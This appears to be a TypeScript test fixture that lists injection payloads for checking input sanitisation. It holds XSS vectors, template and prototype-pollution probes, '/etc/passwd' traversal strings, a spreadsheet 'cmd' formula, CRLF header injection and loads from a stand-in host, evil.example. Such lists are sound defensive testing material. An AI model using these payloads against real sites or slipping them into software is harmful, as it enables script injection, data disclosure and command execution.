// Words that would do something if they were not taken for words: in pages, attributes, scripts, addresses, spreadsheets, headers, templates.
const run = 'window.ran=1'

const elements = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img/src=x/onerror=${run}>`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x>`,
  `<body onload=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<video src=x onerror=${run}>`, `<audio src=x onerror=${run}>`, `<details open ontoggle=${run}>`,
  `<marquee onstart=${run}>`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>${run}</script>">`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<a href="javascript:${run}">x</a>`, `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`, `<math><maction xlink:href="javascript:${run}">x</maction></math>`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css'</style>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext>`, `<isindex action="javascript:${run}">`,
]
const attributes = [
  `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}`, `" style="background:url(javascript:${run})`, `x" onerror="${run}`, '`onmouseover=`' + run, `" accesskey="x" onclick="${run}`, `"/><script>${run}</script>`,
  `&quot; onmouseover=&quot;${run}`, `&#34; onmouseover=&#34;${run}`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`, `\u0000<script>${run}</script>`, `<\u0000script>${run}</script>`,
]
const scripts = [
  `';${run}//`, `";${run}//`, `\\";${run}//`, '`;' + run + '//', '${' + run + '}', `</script><script>${run}</script>`, `<!--<script>${run}//-->`, `\u2028${run}`, `\u2029${run}`, `{{constructor.constructor('${run}')()}}`, `{{7*7}}`, `<%= 7*7 %>`, `#{7*7}`, `*{7*7}`,
  `__proto__`, `constructor`, `toString`, `{"__proto__":{"ran":1}}`,
]
const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`, `vbscript:${run}`, `//evil.example/x.js`, `https://evil.example/"onload="${run}`,
  `../../../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `/\\evil.example`, `file:///etc/passwd`,
]
const cells = [`=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, `\t=1+1`, `=HYPERLINK("https://evil.example","x")`, `＝1+1`]
const lines = [`x\r\nSet-Cookie: ran=1`, `x\r\n\r\n<script>${run}</script>`, `x%0d%0aSet-Cookie:%20ran=1`, `\u202egnp.exe`, `\u200b<script>${run}</script>`, `﹤script﹥${run}﹤/script﹥`, `＜script＞${run}＜/script＞`, `\ufeff<script>${run}</script>`, `<scr\u00adipt>${run}</scr\u00adipt>`]

export const payloads: readonly string[] = [...elements, ...attributes, ...scripts, ...addresses, ...cells, ...lines]
